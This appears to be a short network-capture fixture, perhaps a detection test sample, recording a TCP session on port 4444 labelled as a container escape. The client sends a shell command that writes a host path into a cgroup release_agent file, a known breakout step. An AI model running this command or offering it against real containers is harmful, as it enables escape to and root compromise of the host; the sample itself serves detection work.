# container escape, release_agent of a cgroup written.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:4444

>>>
$\x20

<<<
echo "$h/cmd" > /tmp/cg/release_agent\n
